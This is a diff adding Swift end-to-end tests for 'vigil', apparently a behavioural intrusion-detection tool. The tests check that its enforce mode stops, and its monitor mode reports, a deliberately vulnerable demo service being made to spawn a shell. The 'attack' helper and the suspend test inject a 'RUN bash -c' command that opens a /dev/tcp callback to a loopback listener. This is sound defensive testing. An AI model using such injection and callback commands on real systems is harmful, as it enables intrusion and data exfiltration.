@@ -1,0 +1,151 @@
+import Foundation
+import Testing
+import VigilCore
+
+/// A service learned by `vigil learn`, running from its own copy of the vigil binary so
+/// that its profile is its own.
+struct LearnedService {
+    let models: String
+    let binary: String
+    let process: Process
+    let port: UInt16
+    var id: String { ProfileIdentity.resolve(path: binary, argv: [binary, "demo-service"]).id }
+
+    static func start(learnSeconds: Int = 10) throws -> LearnedService {
+        let base = FileManager.default.temporaryDirectory.appendingPathComponent("vigil-e2e-\(UUID().uuidString)").path
+        try FileManager.default.createDirectory(atPath: base, withIntermediateDirectories: true, attributes: [.posixPermissions: 0o700])
+        let binary = base + "/svc"
+        try FileManager.default.copyItem(atPath: try vigilExecutable().path, toPath: binary)
+        let models = base + "/models"
+        var service: Process?
+        var port: UInt16 = 0
+        let r = try runVigil(["learn", "--models", models, "--duration", String(learnSeconds), "--only", binary,
+                              "--only", "/bin/bash", "--only", "/usr/bin/head",
+                              "--bucket", "2", "--window", "2", "--min-observed", "4", "--save-interval", "3"]) {
+            let p = Process()
+            p.executableURL = URL(fileURLWithPath: binary)
+            p.arguments = ["demo-service", "--vulnerable"]
+            let out = Pipe()
+            p.standardOutput = out
+            try p.run()
+            service = p
+            port = UInt16(String(decoding: out.fileHandleForReading.availableData, as: UTF8.self)
+                .trimmingCharacters(in: .whitespacesAndNewlines)) ?? 0
+            let end = Date().addingTimeInterval(Double(learnSeconds) - 3.5)
+            while Date() < end {
+                try normalRequest(port)
+                Thread.sleep(forTimeInterval: 0.1)
+            }
+        }
+        guard r.status == 0, let service, port != 0 else { throw POSIXError(.EIO) }
+        return LearnedService(models: models, binary: binary, process: service, port: port)
+    }
+
+    func stop() {
+        if process.isRunning { kill(process.processIdentifier, SIGKILL); process.waitUntilExit() }
+        try? FileManager.default.removeItem(atPath: (binary as NSString).deletingLastPathComponent)
+    }
+}
+
+@discardableResult
+func normalRequest(_ port: UInt16) throws -> Int32 {
+    try runProgram("/bin/bash", ["-c", "exec 3<>/dev/tcp/127.0.0.1/\(port); echo 'GET hostname' >&3; head -c 100 <&3 >/dev/null"]).status
+}
+
+/// The attack: the service runs a shell that phones home to `home`.
+func attack(_ port: UInt16, home: UInt16) throws {
+    try runProgram("/bin/bash", ["-c", "exec 3<>/dev/tcp/127.0.0.1/\(port); echo \"RUN bash -c 'echo x >/dev/tcp/127.0.0.1/\(home)'\" >&3; timeout 5 head -c 100 <&3 >/dev/null"])
+}
+
+func processState(_ pid: Int32) -> Character? {
+    guard let stat = try? String(contentsOfFile: "/proc/\(pid)/stat", encoding: .utf8),
+          let close = stat.lastIndex(of: ")") else { return nil }
+    return stat[stat.index(close, offsetBy: 2)]
+}
+
+@Suite(.serialized, .enabled(if: BPFTestGate.shouldRun), .timeLimit(.minutes(3)))
+struct EnforceCommandTests {
+    @Test func enforceStopsTheShellThatPhonesHomeAndNormalTrafficIsQuiet() throws {
+        try BPFTestGate.check()
+        let svc = try LearnedService.start()
+        defer { svc.stop() }
+        let home = try LoopbackListener()
+        let findings = svc.models + "/../findings.jsonl"
+        let r = try runVigil(["enforce", "--models", svc.models, "--duration", "9", "--output", "file:" + findings]) {
+            for _ in 0..<3 { try normalRequest(svc.port) }
+            Thread.sleep(forTimeInterval: 1.5)
+            let quiet = (try? String(contentsOfFile: findings, encoding: .utf8)) ?? ""
+            #expect(!quiet.contains("\"pid\":\(svc.process.processIdentifier),"), "normal traffic after learning produces no finding")
+            try attack(svc.port, home: home.port)
+        }
+        #expect(r.status == 0, "stderr: \(r.err)")
+        #expect(home.accepted == 0, "the connection never arrives")
+        let lines = jsonLines((try? String(contentsOfFile: findings, encoding: .utf8)) ?? "")
+        let finding = try #require(lines.first { $0["class_uid"] as? Int == 2004 && dig($0, "finding_info.title") != nil
+            && ((dig($0, "evidences") as? [[String: Any]])?.contains { dig($0, "process.pid") as? Int == Int(svc.process.processIdentifier) } ?? false) },
+            "a Detection Finding names the service's pid")
+        #expect((finding["risk_score"] as? Int ?? 0) > 0)
+        #expect(!((dig(finding, "finding_info.types") as? [String]) ?? []).isEmpty, "it says which behaviour deviated")
+        #expect(dig(finding, "disposition") != nil || dig(finding, "action") != nil, "it says what was done")
+    }
+
+    @Test func monitorReportsWhatItWouldDoAndNeverActs() throws {
+        try BPFTestGate.check()
+        let svc = try LearnedService.start(learnSeconds: 8)
+        defer { svc.stop() }
+        let home = try LoopbackListener()
+        let r = try runVigil(["monitor", "--models", svc.models, "--duration", "7"]) {
+            try attack(svc.port, home: home.port)
+        }
+        #expect(r.status == 0, "stderr: \(r.err)")
+        #expect(home.accepted >= 1, "monitor never acts: the shell's connection arrives")
+        #expect(svc.process.isRunning)
+        let findings = jsonLines(r.out).filter { $0["class_uid"] as? Int == 2004 }
+        #expect(!findings.isEmpty)
+        #expect(findings.allSatisfy { ($0["action"] as? String)?.lowercased() != "denied" })
+        #expect(r.out.contains("would have acted"), "the finding says what enforce would have done")
+    }
+
+    @Test func suspendCappedByPolicyThenResume() throws {
+        try BPFTestGate.check()
+        let svc = try LearnedService.start(learnSeconds: 8)
+        defer { svc.stop() }
+        let policy = svc.models + "/../policy.yaml"
+        try "caps:\n  \(svc.id): suspend\n".write(toFile: policy, atomically: true, encoding: .utf8)
+        let home = try LoopbackListener()
+        var stateWhileEnforced: Character?
+        let r = try runVigil(["enforce", "--models", svc.models, "--policy", policy, "--duration", "8"]) {
+            // The attacking client waits for a reply a stopped service never sends: don't wait for it.
+            let client = Process()
+            client.executableURL = URL(fileURLWithPath: "/bin/bash")
+            client.arguments = ["-c", "exec 3<>/dev/tcp/127.0.0.1/\(svc.port); echo \"RUN bash -c 'echo x >/dev/tcp/127.0.0.1/\(home.port)'\" >&3; timeout 5 head -c 100 <&3 >/dev/null"]
+            try client.run()
+            let end = Date().addingTimeInterval(4)
+            while Date() < end, stateWhileEnforced != "T" {
+                Thread.sleep(forTimeInterval: 0.1)
+                stateWhileEnforced = processState(svc.process.processIdentifier)
+            }
+        }
+        #expect(r.status == 0, "stderr: \(r.err)")
+        #expect(stateWhileEnforced == "T", "capped at suspend: the service is stopped, not killed; stdout: \(r.out.suffix(3000))")
+        #expect(svc.process.isRunning)
+        // The agent released it on exit; stop it again and resume it by hand.
+        kill(svc.process.processIdentifier, SIGSTOP)
+        Thread.sleep(forTimeInterval: 0.2)
+        #expect(processState(svc.process.processIdentifier) == "T")
+        let resumed = try runVigil(["resume", String(svc.process.processIdentifier)])
+        #expect(resumed.status == 0)
+        Thread.sleep(forTimeInterval: 0.2)
+        #expect(processState(svc.process.processIdentifier) != "T")
+    }
+
+    @Test func aBrokenPolicyIsRefusedWithLineAndColumn() throws {
+        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("vigil-pol-\(UUID().uuidString)").path
+        try FileManager.default.createDirectory(atPath: dir + "/models", withIntermediateDirectories: true, attributes: [.posixPermissions: 0o700])
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        try "bands:\n  alert: 20\n  kill: ten\n".write(toFile: dir + "/p.yaml", atomically: true, encoding: .utf8)
+        let r = try runVigil(["enforce", "--models", dir + "/models", "--policy", dir + "/p.yaml", "--duration", "1"])
+        #expect(r.status == 2)
+        #expect(r.err.contains("p.yaml:3:"), "stderr: \(r.err)")
+    }
+}
